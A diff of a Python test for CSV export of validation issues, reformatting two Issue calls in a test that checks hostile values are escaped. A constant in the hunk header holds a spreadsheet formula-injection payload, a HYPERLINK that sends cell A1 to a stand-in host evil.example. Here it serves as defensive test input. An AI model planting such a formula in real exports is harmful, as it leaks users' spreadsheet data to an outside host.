@@ -14,10 +14,19 @@ LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def test_hostile_values_are_escaped_and_numbers_kept(tmp_path: Path) -> None:
     issues = [
-        Issue("value is outside the range", Location(file="clients.csv", row=3, column="@x"),
-              value=LEAK, expected="-2+3", fix="correct it."),
-        Issue("value is below the minimum", Location(file="clients.csv", row=4, column="age"),
-              value="-5", expected="0 to 120"),
+        Issue(
+            "value is outside the range",
+            Location(file="clients.csv", row=3, column="@x"),
+            value=LEAK,
+            expected="-2+3",
+            fix="correct it.",
+        ),
+        Issue(
+            "value is below the minimum",
+            Location(file="clients.csv", row=4, column="age"),
+            value="-5",
+            expected="0 to 120",
+        ),
     ]
     path = write_issues(issues, tmp_path / "issues.csv")
     with path.open(newline="") as handle:
